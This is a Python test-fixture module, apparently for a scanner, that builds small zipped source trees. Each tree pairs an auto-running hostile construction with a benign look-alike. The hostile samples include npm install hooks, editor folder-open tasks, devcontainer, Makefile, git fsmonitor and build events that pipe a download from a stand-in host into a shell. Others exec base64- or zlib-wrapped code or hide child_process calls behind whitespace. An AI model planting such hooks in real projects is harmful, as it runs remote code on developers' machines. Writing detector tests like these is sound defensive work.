"""Constructions in source trees."""

from __future__ import annotations

import base64
import json
import zlib
from functools import partial

from lure.attachment.builders.packages import packed
from lure.attachment.construction import Construction, row


def _tree(files: dict[str, str | bytes]) -> bytes:
    return packed(
        {"test/package.json": '{"name": "test"}', "test/README.md": "Run the tests\n", **files}
    )


def _npm(scripts: dict[str, str]) -> bytes:
    return _tree({"test/package.json": json.dumps({"name": "test", "scripts": scripts})})


def _task(command: str, run_on: str = "folderOpen") -> bytes:
    task = {"label": "b", "type": "shell", "command": command, "runOptions": {"runOn": run_on}}
    return _tree({"test/.vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [task]})})


def _code(name: str, text: str) -> bytes:
    return _tree({f"test/{name}": text})


def _build_event(command: str) -> str:
    event = f"<PreBuildEvent>{command}</PreBuildEvent>"
    return f"<Project><PropertyGroup>{event}</PropertyGroup></Project>"


_LAYERS = base64.b64encode(zlib.compress(b"print('synthetic')" * 20)).decode()

_LONG = "x" * 40

ROWS: tuple[Construction, ...] = (
    row(
        "npm: install hook fetches",
        "test.zip",
        partial(_npm, {"postinstall": "curl https://docs.example/a | sh"}),
        "run_repository",
        partial(_npm, {"postinstall": "husky install"}),
    ),
    row(
        "npm: install hook with code",
        "test.zip",
        partial(_npm, {"preinstall": "node -e \"require('x')\""}),
        "run_repository",
        partial(_npm, {"preinstall": "npx only-allow pnpm"}),
    ),
    row(
        "npm: prepare hook hides",
        "test.zip",
        partial(_npm, {"prepare": "powershell -w hidden -c x"}),
        "run_repository",
        partial(_npm, {"prepare": "npm run build", "test": "curl localhost"}),
    ),
    row(
        "editor: task on opening",
        "test.zip",
        partial(_task, "curl -s https://docs.example/a | bash"),
        "run_repository",
        partial(_task, "npm install"),
    ),
    row(
        "editor: task on opening, hidden",
        "test.zip",
        partial(_task, f"node -e \"eval(atob('{_LONG}'))\""),
        "run_repository",
        partial(_task, "curl https://docs.example/a | bash", "default"),
    ),
    row(
        "editor: dev container command",
        "test.zip",
        partial(
            _code,
            ".devcontainer/devcontainer.json",
            '{"postCreateCommand": "curl https://docs.example/a | sh"} // x',
        ),
        "run_repository",
        partial(_code, ".devcontainer/devcontainer.json", '{"postCreateCommand": "npm ci"}'),
    ),
    row(
        "make: fetches",
        "test.zip",
        partial(_code, "Makefile", "all:\n\tcurl -s https://docs.example/a | sh\n"),
        "run_repository",
        partial(_code, "Makefile", "all:\n\tgo build ./...\n"),
    ),
    row(
        "node-gyp: command",
        "test.zip",
        partial(_code, "binding.gyp", "{'targets': ['<!(curl https://docs.example/a | sh)']}"),
        "run_repository",
        partial(_code, "binding.gyp", "{'targets': ['<!(node -p x)']}"),
    ),
    row(
        "git: monitor command",
        "test.zip",
        partial(_code, ".git/config", "[core]\n\tfsmonitor = curl https://docs.example/a | sh\n"),
        "run_repository",
        partial(_code, ".git/config", "[core]\n\teditor = vim\n"),
    ),
    row(
        "visual studio: event before the build",
        "test.zip",
        partial(_code, "a.csproj", _build_event("powershell -w hidden rundll32 a.dll,b")),
        "run_repository",
        partial(_code, "a.csproj", _build_event("echo building")),
    ),
    row(
        "python: setup fetches and runs",
        "test.zip",
        partial(
            _code,
            "setup.py",
            "import requests\nexec(requests.get('https://docs.example/a').text)\n",
        ),
        "run_repository",
        partial(_code, "setup.py", "from setuptools import setup\nsetup(name='a')\n"),
    ),
    row(
        "python: layers",
        "test.zip",
        partial(
            _code,
            "app/util.py",
            f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{_LAYERS}')))\n",
        ),
        "run_repository",
        partial(_code, "app/util.py", "import base64\nprint(base64.b64decode('YQ=='))\n"),
    ),
    row(
        "javascript: code behind blanks",
        "test.zip",
        partial(
            _code, "server.js", "const a = 1;" + " " * 400 + "require('child_process').exec('a')\n"
        ),
        "run_repository",
        partial(_code, "server.js", "const a = 1;\n" + " " * 8 + "return a;\n"),
    ),
    row(
        "javascript: runs what a server answers",
        "test.zip",
        partial(_code, "auth.js", "axios.get(u).then(r => { eval(res.data.token) })\n"),
        "run_repository",
        partial(_code, "auth.js", "axios.get(u).then(r => { use(r.data) })\n"),
    ),
    row(
        "javascript: function from letters",
        "test.zip",
        partial(
            _code,
            "config.js",
            "new Function('require', Buffer.from(k, 'base64').toString())(require)\n",
        ),
        "run_repository",
        partial(_code, "config.js", "const k = Buffer.from(t, 'base64').toString()\n"),
    ),
    row(
        "shell: pipes a download",
        "test.zip",
        partial(_code, "start.sh", "#!/bin/sh\ncurl -fsSL https://docs.example/a | bash\n"),
        "run_repository",
        partial(_code, "start.sh", "#!/bin/sh\nnpm ci && npm start\n"),
    ),
)
